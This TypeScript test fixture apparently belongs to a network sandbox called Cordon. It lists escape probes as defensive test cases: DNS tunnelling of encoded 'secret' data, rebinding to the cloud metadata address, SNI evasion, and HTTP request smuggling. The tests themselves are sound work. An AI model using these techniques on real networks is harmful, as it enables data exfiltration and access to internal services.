import { alpn, hello, message, record, records, serverName, vector } from '../egress/hello.ts'
import type { Answers, Zone } from './internet-kit.ts'

/** What a hostile plugin tries on names and networks: one row for each way out that somebody somewhere has found open. */
export interface Probe {
  readonly title: string
  /** Python, with probe-kit.py before it. */
  readonly probe: string
  /**
   * What arrives where no walls are (the control) and never behind them. `opened`: it can arrive nowhere, and the kernel of a
   * plain namespace lets it be opened; else words why the control cannot be tried.
   */
  readonly arrives: RegExp | 'opened' | string
  /** All that may arrive besides, behind the walls: what the door itself asks and opens for an allowed name. */
  readonly may?: RegExp
  /** Its record; null: a refusal of the kernel's that leaves none, or a question that is answered and goes nowhere. */
  readonly code: string | null
  /** What the record says was refused, the name or the address and port; a DNS message that could not be read has none. */
  readonly what?: string
}

export const GOOD = '93.184.215.10'
const PORT = 9000
const RESOLVER = '10\\.77\\.0\\.53'

const esc = (text: string): string => text.replace(/[.[\]*+?^$(){}|\\]/g, '\\$&')
const wire = (destination: string): RegExp => new RegExp(`^wire ${esc(destination)}`)
const asked = (what: string): RegExp => new RegExp(`^wire udp ${RESOLVER}:53 ${what}$`)
const bytes = (data: Buffer): string => `bytes.fromhex('${data.toString('hex')}')`
const text = (data: string): string => bytes(Buffer.from(data, 'latin1'))
const lookUp = (name: string): string => `wire udp ${RESOLVER}:53 (?:A|AAAA) ${esc(name)}`

// ---- names, as bytes of a DNS question

const dns = (labels: readonly string[], more = ''): string => `result = ask(question(name(${labels.map((one) => `b'${one}'`).join(', ')})${more}))`
const long = (length: number, zone: string): string[] => {
  // Labels of 63 and a rest, so that the whole has this many characters.
  const labels: string[] = []
  let left = length - zone.length - 1
  while (left > 63) {
    labels.push('a'.repeat(left === 64 ? 62 : 63))
    left -= (left === 64 ? 62 : 63) + 1
  }
  return [...labels, 'a'.repeat(left), ...zone.split('.')]
}

const NAMES: readonly Probe[] = ([
  ['a NUL inside a label', ['good', 'example\\0', 'other', 'example'], 'query-refused', 'A good.example\\x00.other.example'],
  ['a NUL behind the name', ['good', 'example\\0'], 'query-refused', 'A good.example\\x00'],
  ['a dot inside a label', ['good.example', 'other', 'example'], 'query-refused', 'A good.example.other.example'],
  ['the whole name as one label', ['good.example'], 'query-refused', 'A good.example'],
  ['a blank in a label', ['good', 'example ', 'other', 'example'], 'query-refused', null],
  ['a letter outside ASCII, as UTF-8', ['g\\xd0\\xbe\\xd0\\xbed', 'example'], 'query-refused', null],
  ['the same as punycode', ['xn--gd-emcc', 'example'], 'name-not-allowed', null],
  ['a letter that folds to ASCII (K of Kelvin)', ['\\xe2\\x84\\xaa', 'zone', 'example'], 'query-refused', null],
  ['an underscore', ['_dmarc', 'good', 'example'], 'name-malformed', null],
  ['an underscore below a wildcard', ['_x', 'zone', 'example'], 'name-malformed', null],
  ['a hyphen at the edge of a label', ['-x', 'zone', 'example'], 'name-malformed', null],
  ['an asterisk', ['*', 'zone', 'example'], 'name-malformed', null],
  ['a percent sign', ['good%2eexample', 'other', 'example'], 'name-malformed', null],
  ['an @', ['good', 'example@other', 'example'], 'name-malformed', null],
  ['a backslash', ['good\\\\056example', 'other', 'example'], 'name-malformed', null],
  ['a label of 64 octets', ['a'.repeat(64), 'zone', 'example'], 'query-refused', undefined],
  ['a name of 254 characters', long(254, 'zone.example'), 'query-refused', undefined],
  ['the zone of a wildcard itself', ['zone', 'example'], 'apex-not-covered', null],
  ['a name that only ends like an allowed one', ['evilgood', 'example'], 'name-not-allowed', null],
  ['a name that only ends like an allowed zone', ['x', 'evilzone', 'example'], 'name-not-allowed', null],
  ['a name below an allowed one', ['x', 'good', 'example'], 'name-not-allowed', null],
  ['an allowed name with the resolver\'s search domain behind it', ['good', 'example', 'lan'], 'name-not-allowed', null],
  ['IPv4 as a name', ['127', '0', '0', '1'], 'name-malformed', null],
  ['decimal IPv4 as a name', ['2130706433'], 'name-malformed', null],
  ['octal IPv4 as a name', ['0177', '0', '0', '1'], 'name-malformed', null],
  ['hexadecimal IPv4 as a name', ['0x7f', '1'], 'name-malformed', null],
  ['short IPv4 as a name', ['127', '1'], 'name-malformed', null],
  ['IPv6 as a name', ['::1'], 'name-malformed', null],
  ['IPv6 in brackets as a name', ['[::ffff:7f00:1]'], 'name-malformed', null],
  ['this machine\'s own name', ['localhost'], 'name-not-allowed', null],
  ['the root', [], 'name-malformed', null],
] as const).map(([what, labels, code, seen]) => ({
  title: `name: ${what}`, probe: dns(labels), code,
  arrives: seen === undefined ? /^wire udp 10\.77\.0\.53:53 / : seen === null
    ? new RegExp(`^wire udp ${RESOLVER}:53 A ${esc(labels.join('.').replace(/\\x([0-9a-f]{2})/g, (_all, hex: string) => String.fromCharCode(Number.parseInt(hex, 16))).replace('\\\\', '\\'))}$`)
    : new RegExp(`^wire udp ${RESOLVER}:53 ${esc(seen.replace('\\x00', '\0'))}`),
}))

const TUNNELS: readonly Probe[] = [
  { title: 'tunnel: data in labels', probe: dns(['c2VjcmV0LTE', 'tunnel', 'example']), arrives: asked('A c2VjcmV0LTE\\.tunnel\\.example'), code: 'name-not-allowed', what: 'c2vjcmv0lte.tunnel.example' },
  ...([['TXT', 16], ['NULL', 10], ['MX', 15], ['CNAME', 5], ['ANY', 255], ['HTTPS', 65], ['NS', 2]] as const).map(([type, number]): Probe => (
    { title: `tunnel: data in labels, as ${type}`, probe: dns(['c2VjcmV0LTI', 'tunnel', 'example'], `, ${number}`), arrives: asked(`${type} c2VjcmV0LTI\\.tunnel\\.example`), code: 'name-not-allowed', what: 'c2vjcmv0lti.tunnel.example' }
  )),
  // Answered by the door alone, so nothing of it goes anywhere; with AAAA or HTTPS it would lead past the stand-in address.
  ...([['AAAA', 28], ['TXT', 16], ['NULL', 10], ['HTTPS', 65]] as const).map(([type, number]): Probe => (
    { title: `tunnel: ${type} of an allowed name`, probe: dns(['good', 'example'], `, ${number}`), arrives: asked(`${type} good\\.example`), code: null }
  )),
  { title: 'tunnel: data in labels of an allowed zone, only asked for', probe: dns(['c2VjcmV0LTM', 'zone', 'example']), arrives: asked('A c2VjcmV0LTM\\.zone\\.example'), code: null },
  { title: 'tunnel: data in an EDNS option', probe: 'result = ask(question(name(b\'good\', b\'example\'), more=b\'\\0\\0\\x29\\x04\\xd0\\0\\0\\0\\0\\0\\x0a\\xff\\xfe\\0\\x06secret\', additional=1))', arrives: asked('A good\\.example'), code: null },
  { title: 'tunnel: another class', probe: dns(['version', 'bind'], ', 16, 3'), arrives: asked('TXT version\\.bind'), code: 'query-refused', what: 'version.bind' },
  { title: 'tunnel: two questions in one message', probe: 'result = ask(question(name(b\'good\', b\'example\'), questions=2, more=name(b\'c2VjcmV0LTQ\', b\'tunnel\', b\'example\') + b\'\\0\\1\\0\\1\'))', arrives: asked('A good\\.example'), code: 'query-refused', what: '' },
  { title: 'tunnel: a dynamic update', probe: 'result = ask(question(name(b\'zone\', b\'example\'), 6, flags=0x2800))', arrives: asked('6 zone\\.example'), code: 'query-refused', what: '' },
  { title: 'tunnel: a message that calls itself an answer', probe: 'result = ask(question(name(b\'c2VjcmV0LTU\', b\'tunnel\', b\'example\'), flags=0x8180), quiet=.3)', arrives: asked('A c2VjcmV0LTU\\.tunnel\\.example'), code: null },
  { title: 'tunnel: a zone transfer by TCP', probe: 'result = ask(question(name(b\'zone\', b\'example\'), 252), over=\'tcp\')', arrives: /^wire tcp 10\.77\.0\.53:53 opens/, code: 'apex-not-covered', what: 'zone.example' },
  ...(['8.8.8.8', '2001:4860:4860::8888', '10.77.0.53'] as const).flatMap((server): Probe[] => (['udp', 'tcp'] as const).map((over) => ({
    title: `tunnel: past the resolver of the walls, ${over} to ${server}`, probe: `result = ask(question(name(b'c2VjcmV0LTY', b'tunnel', b'example')), '${server}', '${over}')`,
    arrives: wire(`${over} ${server.includes(':') ? `[${server}]` : server}:53 `), code: 'name-not-allowed', what: 'c2vjcmv0lty.tunnel.example',
  }))),
  { title: 'tunnel: DNS over TLS', probe: `result = tcp('8.8.8.8', 853, ${bytes(hello({ extensions: [serverName('dns.google')] }))})`, arrives: wire('tcp 8.8.8.8:853 opens'), code: 'attempted', what: 'tcp 8.8.8.8:853' },
  { title: 'tunnel: DNS over HTTPS', probe: `result = tcp('1.1.1.1', 443, ${bytes(hello({ extensions: [serverName('cloudflare-dns.com')] }))})`, arrives: wire('tcp 1.1.1.1:443 opens'), code: 'literal-not-allowed', what: '1.1.1.1:443' },
  ...([['multicast DNS', '224.0.0.251', 5353], ['LLMNR', '224.0.0.252', 5355], ['SSDP', '239.255.255.250', 1900], ['DHCP', '255.255.255.255', 67], ['NTP', '192.0.2.123', 123], ['multicast DNS by IPv6', 'ff02::fb', 5353], ['LLMNR by IPv6', 'ff02::1:3', 5355]] as const).map(([what, address, port]): Probe => {
    const written = `udp ${address.includes(':') ? `[${address}]` : address}:${port}`
    return { title: `tunnel: ${what}`, probe: `result = udp('${address}', ${port}, b'c2VjcmV0')`, arrives: wire(`${written} c2VjcmV0`), code: 'attempted', what: written }
  }),
]

// ---- what an allowed name may turn out to be

interface Rebound extends Answers { readonly code: string; readonly arrives: string; readonly control?: string; readonly private?: boolean }
const tcpTo = (address: string): string => `wire tcp ${address}:${PORT} opens`
const here = (address: string): string => `host tcp ${address}:${PORT} opens`
/** Allowed without `private`, on a port where the door dials at once; the name says what it resolves to. */
export const REBOUND: Readonly<Record<string, Rebound>> = {
  'loopback': { A: ['127.0.0.1'], code: 'address-loopback', arrives: here('127.0.0.1') },
  'loopback-far': { A: ['127.77.1.2'], code: 'address-loopback', arrives: here('127.77.1.2') },
  'loopback6': { AAAA: ['::1'], code: 'address-loopback', arrives: here('[::1]') },
  'unspecified': { A: ['0.0.0.0'], code: 'address-unspecified', arrives: here('127.0.0.1') },
  'unspecified6': { AAAA: ['::'], code: 'address-unspecified', arrives: here('[::1]') },
  'mapped': { AAAA: ['::ffff:127.0.0.1'], code: 'address-loopback', arrives: here('127.0.0.1') },
  'compatible': { AAAA: ['::127.0.0.1'], code: 'address-translated', arrives: tcpTo('[::127.0.0.1]') },
  'metadata': { A: ['169.254.169.254'], code: 'address-metadata', arrives: tcpTo('169.254.169.254') },
  'metadata-mapped': { AAAA: ['::ffff:169.254.169.254'], code: 'address-metadata', arrives: tcpTo('169.254.169.254') },
  'metadata6': { AAAA: ['fd00:ec2::254'], code: 'address-metadata', arrives: tcpTo('[fd00:ec2::254]') },
  'metadata-ecs': { A: ['169.254.170.2'], code: 'address-metadata', arrives: tcpTo('169.254.170.2') },
  'link-local': { A: ['169.254.7.7'], code: 'address-link-local', arrives: tcpTo('169.254.7.7') },
  'ten': { A: ['10.9.8.7'], code: 'address-private', arrives: tcpTo('10.9.8.7') },
  'oneseventytwo': { A: ['172.31.255.254'], code: 'address-private', arrives: tcpTo('172.31.255.254') },
  'home': { A: ['192.168.1.1'], code: 'address-private', arrives: tcpTo('192.168.1.1') },
  'tailscale': { A: ['100.64.0.1'], code: 'address-shared', arrives: tcpTo('100.64.0.1') },
  'ula': { AAAA: ['fd12::1'], code: 'address-unique-local', arrives: tcpTo('[fd12::1]') },
  'nat64': { AAAA: ['64:ff9b::7f00:1'], code: 'address-translated', arrives: tcpTo('[64:ff9b::7f00:1]') },
  'nat64-metadata': { AAAA: ['64:ff9b::a9fe:a9fe'], code: 'address-translated', arrives: tcpTo('[64:ff9b::a9fe:a9fe]') },
  'nat64-local': { AAAA: ['64:ff9b:1::7f00:1'], code: 'address-translated', arrives: tcpTo('[64:ff9b:1::7f00:1]') },
  'sixtofour': { AAAA: ['2002:7f00:1::1'], code: 'address-translated', arrives: tcpTo('[2002:7f00:1::1]') },
  'teredo': { AAAA: ['2001:0:4136:e378:8000:63bf:80ff:fffe'], code: 'address-translated', arrives: tcpTo('[2001:0:4136:e378:8000:63bf:80ff:fffe]') },
  'isatap': { AAAA: ['2606:2800:220:1:0:5efe:7f00:1'], code: 'address-translated', arrives: tcpTo('[2606:2800:220:1:0:5efe:7f00:1]') },
  'documentation': { A: ['192.0.2.10'], code: 'address-documentation', arrives: tcpTo('192.0.2.10') },
  'stand-in': { A: ['198.18.5.5'], code: 'address-benchmarking', arrives: tcpTo('198.18.5.5') },
  'reserved': { A: ['240.0.0.1'], code: 'address-reserved', arrives: tcpTo('240.0.0.1') },
  'multicast': { A: ['224.0.0.251'], code: 'address-multicast', arrives: '', control: 'the kernel connects to no multicast address' },
  'broadcast': { A: ['255.255.255.255'], code: 'address-broadcast', arrives: '', control: 'the kernel connects to no broadcast address' },
  'link-local6': { AAAA: ['fe80::1'], code: 'address-link-local', arrives: '', control: 'an answer of the DNS has no zone' },
  'own': { A: ['10.77.0.1'], code: 'address-host', arrives: here('10.77.0.1') },
  'own6': { AAAA: ['fd77::1'], code: 'address-host', arrives: here('[fd77::1]') },
  'own-nat64': { AAAA: ['64:ff9b::a4d:1'], code: 'address-host', arrives: tcpTo('[64:ff9b::a4d:1]') },
  'own-public': { A: ['93.184.216.1'], code: 'address-host', arrives: here('93.184.216.1') },
  'neighbour': { A: ['93.184.216.7'], code: 'address-on-link', arrives: tcpTo('93.184.216.7') },
  'alias': { CNAME: 'inside.other.example', A: ['127.0.0.1'], code: 'address-loopback', arrives: here('127.0.0.1') },
  'alias-of-localhost': { CNAME: 'localhost', A: ['127.0.0.1'], code: 'address-loopback', arrives: here('127.0.0.1') },
  'private-own': { A: ['10.77.0.1'], private: true, code: 'address-host', arrives: here('10.77.0.1') },
  'private-loopback': { A: ['127.0.0.1'], private: true, code: 'address-loopback', arrives: here('127.0.0.1') },
  'private-metadata': { A: ['169.254.169.254'], private: true, code: 'address-metadata', arrives: tcpTo('169.254.169.254') },
  'private-metadata6': { AAAA: ['fd00:ec2::254'], private: true, code: 'address-metadata', arrives: tcpTo('[fd00:ec2::254]') },
  'private-nat64': { AAAA: ['64:ff9b::a09:807'], private: true, code: 'address-translated', arrives: tcpTo('[64:ff9b::a09:807]') },
}

const ADDRESSES: readonly Probe[] = [
  ...Object.entries(REBOUND).map(([name, { code, arrives, control }]): Probe => ({
    title: `rebinding: an allowed name leads to ${name}`, probe: `result = tcp('${name}.rebound.example', ${PORT}, b'probe')`,
    arrives: control ?? new RegExp(`^${esc(arrives)}$`), may: new RegExp(`^${lookUp(`${name}.rebound.example`)}$`), code, what: `${name}.rebound.example:${PORT}`,
  })),
  {
    title: 'rebinding: one good address among bad ones', probe: `result = tcp('many.rebound.example', ${PORT}, b'probe', end=True)`, arrives: /^(?:wire tcp (?:169\.254\.169\.254|\[fd00:ec2::254\]|10\.9\.8\.7)|host tcp (?:\[::1\]|127\.0\.0\.1)):9000 opens$/,
    may: new RegExp(`^(?:${lookUp('many.rebound.example')}|wire tcp ${esc(GOOD)}:${PORT} (?:opens|says probe))$`), code: null,
  },
  {
    title: 'rebinding: the good one does not answer, the bad ones would', probe: 'result = tcp(\'many.rebound.example\', 9001, b\'probe\')', arrives: /^(?:wire tcp (?:169\.254\.169\.254|\[fd00:ec2::254\]|10\.9\.8\.7)|host tcp (?:\[::1\]|127\.0\.0\.1)):9001 opens$/,
    may: new RegExp(`^(?:${lookUp('many.rebound.example')}|wire tcp ${esc(GOOD)}:9001 opens)$`), code: 'connect-refused', what: 'many.rebound.example:9001',
  },
  ...([
    ['an address', GOOD, 'literal-not-allowed'], ['an address of IPv6', '2606:2800:220:1::10', 'literal-not-allowed'],
    ['the metadata service', '169.254.169.254', 'literal-not-allowed'], ['a private address', '10.9.8.7', 'literal-not-allowed'], ['an address behind NAT64', '64:ff9b::7f00:1', 'literal-not-allowed'],
    ['a neighbour of an allowed block', '93.184.217.4', 'literal-not-allowed'], ['a stand-in address that was never given out', '198.18.200.200', 'synthetic-unknown'],
  ] as const).map(([what, address, code]): Probe => {
    const written = `${address.includes(':') ? `[${address}]` : address}:${PORT}`
    return { title: `literal: ${what}`, probe: `result = tcp('${address}', ${PORT}, b'probe')`, arrives: new RegExp(`^wire ${esc(`tcp ${written}`)} opens$`), code, what: `${address}:${PORT}` }
  }),
  { title: 'literal: an IPv4 address in IPv6\'s clothes', probe: `result = tcp('::ffff:${GOOD}', ${PORT}, b'probe')`, arrives: wire(`tcp ${GOOD}:${PORT} opens`), code: 'literal-not-allowed', what: `${GOOD}:${PORT}` },
  { title: 'literal: this host, in a block that is allowed with private', probe: `result = tcp('10.77.0.1', ${PORT}, b'probe')`, arrives: new RegExp(`^${esc(here('10.77.0.1'))}$`), code: 'address-host', what: `10.77.0.1:${PORT}` },
  { title: 'literal: another port of an allowed block', probe: 'result = tcp(\'93.184.217.1\', 9002, b\'probe\')', arrives: wire('tcp 93.184.217.1:9002 opens'), code: 'attempted', what: 'tcp 93.184.217.1:9002' },
  { title: 'literal: another port of an allowed name\'s stand-in', probe: 'result = tcp(\'good.example\', 22, b\'probe\')', arrives: wire(`tcp ${GOOD}:22 opens`), code: 'attempted', what: ':22' },
  ...(['127.0.0.1', '0.0.0.0', '::1', '::', '::ffff:127.0.0.1', '2130706433', '0x7f000001', '017700000001', '127.1', '0'] as const).map((spelling): Probe => (
    { title: `literal: this host's loopback, written ${spelling}`, probe: `result = tcp('${spelling}', ${PORT}, b'probe')`, arrives: /^host tcp (?:127\.0\.0\.1|\[::1\]):9000 opens$/, code: 'loopback-reset' }
  )),
  ...(['PORT_OF_CORDON', '10.77.0.1'] as const).map((host): Probe => ({
    title: `literal: Cordon's own port ${host === '10.77.0.1' ? 'on another address of this host' : 'by host.internal, which is allowed on it'}`,
    probe: `result = tcp(${host === '10.77.0.1' ? '\'10.77.0.1\'' : '\'host.internal\''}, PORT_OF_CORDON, b'GET / HTTP/1.0\\r\\n\\r\\n')`,
    arrives: /^host tcp (?:127\.0\.0\.1|10\.77\.0\.1):PORT_OF_CORDON opens$/, code: 'own-port', what: host === '10.77.0.1' ? '10.77.0.1:PORT_OF_CORDON' : 'host.internal:PORT_OF_CORDON',
  })),
]

// ---- what the first bytes say

const SNI = (...names: string[]): Buffer => hello({ extensions: [serverName(...names)] })
const ECH = [0xfe0d, Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 7]), vector(2, Buffer.alloc(32, 1)), vector(2, Buffer.alloc(64, 2))])] as const
const SSLV2 = Buffer.concat([Buffer.from([0x80, 0x2b, 1, 3, 1, 0, 0x12, 0, 0, 0, 0x10]), Buffer.alloc(34, 5), Buffer.from('other.example')])
const big = (size: number): readonly [number, Buffer] => [21, Buffer.alloc(size)]
const cut = (data: Buffer, ...at: number[]): Buffer[] => [0, ...at].map((start, index) => data.subarray(start, at[index] ?? data.length))

const HELLOS: readonly Probe[] = [
  ...([
    ['for another name', [SNI('other.example')], 'sni-mismatch'],
    ['for another name, cut into segments', cut(SNI('other.example'), 1, 3, 5, 9, 60, 90), 'sni-mismatch'],
    ['for another name, cut into records', [records(message({ extensions: [serverName('other.example')] }), 40)], 'sni-mismatch'],
    ['for another name, in records of one byte', [records(message({ extensions: [serverName('other.example')] }), 1)], 'sni-mismatch'],
    ['for another name behind the good one', [SNI('good.example', 'other.example')], 'sni-several'],
    ['for the good name behind another', [SNI('other.example', 'good.example')], 'sni-several'],
    ['with two lists of names', [hello({ extensions: [serverName('good.example'), serverName('other.example')] })], 'tls-malformed'],
    ['for a name with a NUL', [SNI('good.example\0.other.example')], 'sni-malformed'],
    ['for an address', [hello({ extensions: [serverName(GOOD), alpn('other.example')] })], 'sni-malformed'],
    ['without a name', [hello({ extensions: [alpn('other.example')] })], 'sni-missing'],
    ['without extensions', [Buffer.concat([hello({ extensions: null, sessionId: Buffer.from('other.example'.padEnd(32)) })])], 'sni-missing'],
    ['with Encrypted Client Hello', [hello({ extensions: [serverName('good.example'), ECH, alpn('other.example')] })], 'ech-refused'],
    ['with Encrypted Client Hello and another outer name', [hello({ extensions: [serverName('other.example'), ECH] })], 'sni-mismatch'],
    ['that is larger than any', [records(message({ extensions: [serverName('other.example'), big(17_000)] }), 16_000)], 'tls-oversized'],
    ['and another one behind it in the same record', [record(Buffer.concat([message({ extensions: [serverName('good.example')] }), message({ extensions: [serverName('other.example')] })]))], 'tls-malformed'],
    ['of SSL 2', [SSLV2], 'tls-sslv2'],
    ['that is none but HTTP', [Buffer.from('GET / HTTP/1.1\r\nHost: other.example\r\n\r\n')], 'tls-required'],
    ['that is none but SSH', [Buffer.from('SSH-2.0-other.example\r\n')], 'tls-required'],
    ['that is an alert first', [Buffer.concat([record(Buffer.from([1, 0]), 21), SNI('other.example')])], 'tls-required'],
  ] as const).map(([what, chunks, code]): Probe => ({
    title: `hello ${what}`, probe: `result = tcp('good.example', 443, ${chunks.map(bytes).join(', ')})`,
    arrives: what.includes('one byte') ? /^wire tcp 93\.184\.215\.10:443 says [^]*o[^]*t[^]*h[^]*e[^]*r/ : what.includes('segments') || what.includes('cut into') ? /^wire tcp 93\.184\.215\.10:443 says [^]*other|^wire tcp 93\.184\.215\.10:443 says [^]*\.ex/
      : /^wire tcp 93\.184\.215\.10:443 says [^]*other\.example/, may: new RegExp(`^${lookUp('good.example')}$`), code, what: 'good.example:443',
  })),
  { title: 'hello that ends in the middle', probe: `result = tcp('good.example', 443, ${bytes(SNI('other.example').subarray(0, 80))}, end=True)`, arrives: /^wire tcp 93\.184\.215\.10:443 opens$/, code: 'tls-malformed', what: 'good.example:443' },
  {
    title: 'hello for another name on a port where TLS is not asked for', probe: `result = tcp('good.example', ${PORT}, ${bytes(SNI('other.example'))})`, arrives: /^wire tcp 93\.184\.215\.10:9000 says [^]*other\.example/,
    may: new RegExp(`^(?:${lookUp('good.example')}|wire tcp ${esc(GOOD)}:${PORT} opens)$`), code: 'sni-mismatch', what: `good.example:${PORT}`,
  },
  { title: 'hello for another name on port 80', probe: `result = tcp('good.example', 80, ${bytes(SNI('other.example'))})`, arrives: /^wire tcp 93\.184\.215\.10:80 says [^]*other\.example/, may: new RegExp(`^${lookUp('good.example')}$`), code: 'sni-mismatch', what: 'good.example:80' },
]

const FIRST = 'GET /first HTTP/1.1\r\nHost: good.example\r\n\r\n'
const OTHER = 'GET /second HTTP/1.1\r\nHost: other.example\r\n\r\n'
const HTTP: readonly Probe[] = ([
  ['for another host', [OTHER], 'http-host-other'],
  ['for another host behind a good one', [FIRST + OTHER], 'http-host-other'],
  ['for another host, later on the same connection', [FIRST, OTHER], 'http-host-other'],
  ['for another host behind a body', ['POST /first HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\n\r\nbody' + OTHER], 'http-host-other'],
  ['for another host behind chunks', ['POST /first HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nbody\r\n0\r\n\r\n' + OTHER], 'http-host-other'],
  ['for another host, cut into segments', [OTHER.slice(0, 30), OTHER.slice(30, 40), OTHER.slice(40)], 'http-host-other'],
  ['with another host in its absolute target', ['GET http://other.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n'], 'http-host-other'],
  ['with user information in its absolute target', ['GET http://good.example@other.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n'], 'http-host-other'],
  ['with two hosts, the other last', ['GET / HTTP/1.1\r\nHost: good.example\r\nHost: other.example\r\n\r\n'], 'http-host-several'],
  ['with two hosts, the other first', ['GET / HTTP/1.1\r\nHost: other.example\r\nHost: good.example\r\n\r\n'], 'http-host-several'],
  ['with two hosts in one field', ['GET / HTTP/1.1\r\nHost: good.example, other.example\r\n\r\n'], 'http-host-other'],
  ['with user information in its host', ['GET / HTTP/1.1\r\nHost: good.example@other.example\r\n\r\n'], 'http-host-other'],
  ['with another port in its host', ['GET /other.example HTTP/1.1\r\nHost: good.example:8080\r\n\r\n'], 'http-host-other'],
  ['with a blank before the colon', ['GET / HTTP/1.1\r\nHost: good.example\r\nHost : other.example\r\n\r\n'], 'http-malformed'],
  ['with a folded field', ['GET / HTTP/1.1\r\nHost: good.example\r\nX: y\r\n Host: other.example\r\n\r\n'], 'http-malformed'],
  ['with line feeds alone', ['GET / HTTP/1.1\nHost: other.example\n\nGET / HTTP/1.1\r\nHost: good.example\r\n\r\n'], 'http-malformed'],
  ['with a bare carriage return', ['GET / HTTP/1.1\r\nX: y\rHost: other.example\r\nHost: good.example\r\n\r\n'], 'http-malformed'],
  ['with a NUL in its host', ['GET / HTTP/1.1\r\nHost: good.example\0.other.example\r\n\r\n'], 'http-malformed'],
  ['without a host', ['GET /other.example HTTP/1.0\r\n\r\n'], 'http-no-host'],
  ['in the manner of HTTP/0.9', ['GET /other.example\r\n\r\n'], 'http-malformed'],
  ['with both lengths', ['POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + OTHER], 'http-body-ambiguous'],
  ['with two lengths', ['POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n' + OTHER], 'http-body-ambiguous'],
  ['with a host in its trailer', ['POST /first HTTP/1.1\r\nHost: good.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: other.example\r\n\r\n'], 'http-malformed'],
  ['for a tunnel', ['CONNECT other.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n'], 'http-connect'],
  ['for another protocol', ['GET /other.example HTTP/1.1\r\nHost: good.example\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n'], 'http-upgrade'],
  ['of HTTP/2 at once', ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nother.example'], 'http-malformed'],
] as const).map(([what, chunks, code]): Probe => ({
  title: `HTTP request ${what}`, probe: `result = tcp('good.example', 80, ${chunks.map(text).join(', ')})`, arrives: what.endsWith('segments') ? /:80 says her\.exampl/ : /^wire tcp 93\.184\.215\.10:80 says [^]*other/,
  // The requests and bodies before the bad one were the good host's own.
  may: new RegExp(`^(?:${lookUp('good.example')}|wire tcp ${esc(GOOD)}:80 opens|wire tcp ${esc(GOOD)}:80 says (?:GET|POST) /first HTTP/1\\.1\\r\\nHost: good\\.example\\r\\n[^]*)$`),
  code, what: 'good.example:80',
}))

// ---- past TCP and the names

const OTHERS: readonly Probe[] = [
  { title: 'QUIC to an allowed name', probe: 'result = udp(address_of(\'good.example\'), 443, b\'quic\')', arrives: wire(`udp ${GOOD}:443 quic`), code: 'attempted', what: ':443' },
  { title: 'QUIC to an address', probe: `result = udp('${GOOD}', 443, b'quic')`, arrives: wire(`udp ${GOOD}:443 quic`), code: 'attempted', what: `udp ${GOOD}:443` },
  { title: 'QUIC by IPv6', probe: 'result = udp(\'2606:2800:220:1::10\', 443, b\'quic\')', arrives: wire('udp [2606:2800:220:1::10]:443 quic'), code: 'attempted', what: 'udp [2606:2800:220:1::10]:443' },
  { title: 'UDP to the host\'s loopback', probe: 'result = udp(\'127.0.0.1\', 4444, b\'probe\')', arrives: /^host udp 127\.0\.0\.1:4444 probe/, code: null },
  { title: 'UDP to the host', probe: 'result = udp(\'10.77.0.1\', 4444, b\'probe\')', arrives: /^host udp 10\.77\.0\.1:4444 probe/, code: 'attempted', what: 'udp 10.77.0.1:4444' },
  { title: 'an ICMP echo', probe: `result = echo(socket.AF_INET, socket.SOCK_RAW, 1, '${GOOD}', b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0')`, arrives: wire(`protocol 1 ${GOOD}`), code: null },
  { title: 'an ICMP echo by a datagram socket', probe: `result = echo(socket.AF_INET, socket.SOCK_DGRAM, 1, '${GOOD}', b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0')`, arrives: wire(`protocol 1 ${GOOD}`), code: null },
  { title: 'an ICMPv6 echo', probe: 'result = echo(socket.AF_INET6, socket.SOCK_RAW, 58, \'2606:2800:220:1::10\', b\'\\x80\\0\\0\\0\\0\\0\\0\\0\')', arrives: wire('protocol 58 [2606:2800:220:1::10]'), code: null },
  { title: 'a raw protocol', probe: `result = echo(socket.AF_INET, socket.SOCK_RAW, 253, '${GOOD}', b'probe')`, arrives: wire(`protocol 253 ${GOOD}`), code: null },
  { title: 'a frame of a protocol of its own', probe: 'result = packet()', arrives: /^wire ethernet 88b5 probe/, code: null },
  { title: 'a packet socket', probe: 'result = opened(socket.AF_PACKET, socket.SOCK_DGRAM, 0)', arrives: 'opened', code: null },
  { title: 'a netlink socket', probe: 'result = opened(socket.AF_NETLINK, socket.SOCK_RAW, 0)', arrives: 'opened', code: null },
  { title: 'a socket to the machine\'s host (vsock)', probe: 'result = opened(socket.AF_VSOCK, socket.SOCK_STREAM, 0)', arrives: 'opened', code: null },
  { title: 'a Bluetooth socket', probe: 'result = opened(31, socket.SOCK_RAW, 1)', arrives: 'this kernel may have none', code: null },
  { title: 'an abstract UNIX socket of the host', probe: 'result = unix(\'\\0cordon-e2e-probe\')', arrives: /^host abstract cordon-e2e-probe connected/, code: null },
]

export const PROBES: readonly Probe[] = [...NAMES, ...TUNNELS, ...ADDRESSES, ...HELLOS, ...HTTP, ...OTHERS]

export const ZONE: Zone = {
  'good.example': { A: [GOOD] },
  'host.internal': { A: ['127.0.0.1'] }, // outside the walls, for the control
  'zone.example': { A: [GOOD] },
  ...Object.fromEntries(Object.entries(REBOUND).map(([name, { A = [], AAAA = [], CNAME }]) => [`${name}.rebound.example`, { A, AAAA, ...(CNAME === undefined ? {} : { CNAME }) }])),
  'many.rebound.example': { A: ['169.254.169.254', '127.0.0.1', '10.9.8.7', GOOD], AAAA: ['::1', 'fd00:ec2::254'] },
  'truncated.rebound.example': { A: [GOOD], truncated: true },
  'flips.rebound.example': { A: [GOOD], then: { A: ['169.254.169.254'] } },
  [`${'a'.repeat(63)}.zone.example`]: { A: [GOOD] },
}
